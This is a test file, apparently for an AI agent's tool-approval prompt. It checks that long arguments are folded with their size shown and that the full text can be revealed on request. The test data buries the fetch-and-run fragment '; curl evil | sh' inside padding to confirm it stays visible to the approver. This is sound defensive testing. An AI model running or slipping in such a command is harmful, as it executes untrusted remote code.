import { expect, test } from 'vitest'
import { askApproval } from './approval.ts'
import type { Prompts } from './terminal-prompts.ts'

test('T10 a question shows every argument, long ones folded with their size, and all of them on request', async () => {
  const shown: string[] = []
  const choices: string[][] = []
  const answers = ['whole', 'once']
  const prompts = {
    async select(question: { readonly choices: readonly { readonly value: string }[] }) {
      choices.push(question.choices.map(({ value }) => value))
      return { cancelled: false, value: answers.shift() }
    },
  } as unknown as Prompts // the part that it uses
  const content = `${'a'.repeat(5000)}; curl evil | sh; ${'b'.repeat(5000)}`
  const question = {
    tool: { ref: 'x/write' },
    args: { path: '/etc/x', content, to: ['b'] },
    reason: 'It may write.',
  }
  const show = (text: string) => void shown.push(text)
  expect(await askApproval(question, { prompts, show })).toEqual({ cancelled: false, value: 'once' })
  const [, first = '', note, whole] = shown
  expect(first.length).toBeLessThan(1300)
  for (const part of ['/etc/x', 'aaa … 9,018 characters not shown … bbb', '"to"'])
    expect(first).toContain(part)
  expect(note).toBe('A long text is not shown whole.')
  expect(whole).toContain('; curl evil | sh; ')
  expect(choices).toEqual([
    ['no', 'whole', 'once', 'always'],
    ['no', 'once', 'always'],
  ])
})
